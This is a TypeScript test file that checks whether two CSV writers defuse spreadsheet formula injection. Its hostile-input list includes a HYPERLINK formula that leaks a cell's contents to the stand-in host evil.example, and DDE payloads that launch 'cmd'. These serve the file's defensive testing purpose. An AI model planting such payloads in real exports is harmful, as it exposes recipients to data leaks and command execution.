/**
 * Both CSV writers (an answer's table, a SQL result) against hostile text —
 * a shared link's shape name, a pasted GeoJSON name, a dataset's notice, a
 * SQL cell — read back with an RFC 4180 parser (test/helpers/csv-rows.ts): no cell a
 * spreadsheet would run as a formula, and every data row as wide as its
 * header.
 */
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvComment, csvField } from '../../src/contract/csv.ts';
import { sqlResultCsv } from '../../src/sql/sql-csv.ts';
import { toCsv } from '../../src/ui/table-csv.ts';
import { parseCsv } from '../helpers/csv-rows.ts';

const HOSTILE = [
  'Block 7\r=HYPERLINK("http://evil.example/?"&A5),',
  'Block 7,=1+1,@SUM(1+1)',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  'line one\nline two\u2028three',
  'quote " and comma , together',
];
/** A cell a spreadsheet would run: starts with =, +, -, @, tab or CR, and is not a plain number. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

describe('CSV a spreadsheet opens as data', () => {
  it('csvField: formulas neutralised with a leading quote, numbers left as they are, special characters quoted', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('-5.2')).toBe('-5.2');
    expect(csvField('+3e-7')).toBe('+3e-7');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('@x,"y"')).toBe(`"'@x,""y"""`);
    expect(csvComment('a\r\nb,c "d"')).toBe('# a b,c "d"');
    expect(csvComment('x,=1+1,"@SUM(A1)",-5.2,{"a":[1,-2]}')).toBe(`# x,'=1+1,"'@SUM(A1)",-5.2,{"a":[1,'-2]}`);
  });

  it("an answer's table with hostile shape names, headings and notice: no formula cell, every row as wide as the header", () => {
    const csv = toCsv(
      {
        rows: ['2024-01-01', '2024-01-02'],
        series: HOSTILE.slice(0, 4).map((name, k) => ({
          label: name,
          title: `${name} temperature`,
          unit: '°C',
          decimals: 1,
          values: [-1.5 * k, k === 2 ? null : 12.3],
        })),
        temporal: true,
        timeScale: 'daily',
      },
      'Date',
      HOSTILE.map((h) => `Shape: ${h}`),
    );
    const rows = parseCsv(csv);
    const comments = rows.filter((r) => r[0]!.startsWith('#'));
    expect(comments).toHaveLength(HOSTILE.length);
    const data = rows.filter((r) => !r[0]!.startsWith('#'));
    expect(data).toHaveLength(3);
    // The headings are the first row and the notes come after the data, so a spreadsheet sees one table.
    expect(rows[0]).toEqual(data[0]);
    expect(rows.findIndex((r) => r[0]!.startsWith('#'))).toBe(data.length);
    for (const r of data) expect(r).toHaveLength(5);
    for (const r of rows) for (const cell of r) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
    // Numbers stay numbers; the headings keep their words.
    expect(data[1]![2]).toBe('-1.5');
    // A heading that starts like text stays as written, its line break inside its quotes (one cell).
    expect(data[0]![1]).toBe('Block 7\r=HYPERLINK("http://evil.example/?"&A5), temperature (°C)');
    expect(data[0]![3]).toBe('\'+cmd|" /C calc"!A0 temperature (°C)');
  });

  it('a SQL result with hostile cells: the same', () => {
    const csv = sqlResultCsv({
      columns: [{ name: '=station' }, { name: 'value' }, { name: 'note' }] as never,
      rows: HOSTILE.map((h, i) => [h, -i * 0.5, i % 2 ? null : `@note ${i}`]),
    });
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const r of rows) expect(r).toHaveLength(3);
    for (const r of rows) for (const cell of r) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
    expect(rows[2]![1]).toBe('-0.5');
  });

  it('the byte-order mark is U+FEFF (EF BB BF in UTF-8)', () => {
    expect([...new TextEncoder().encode(CSV_BOM)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
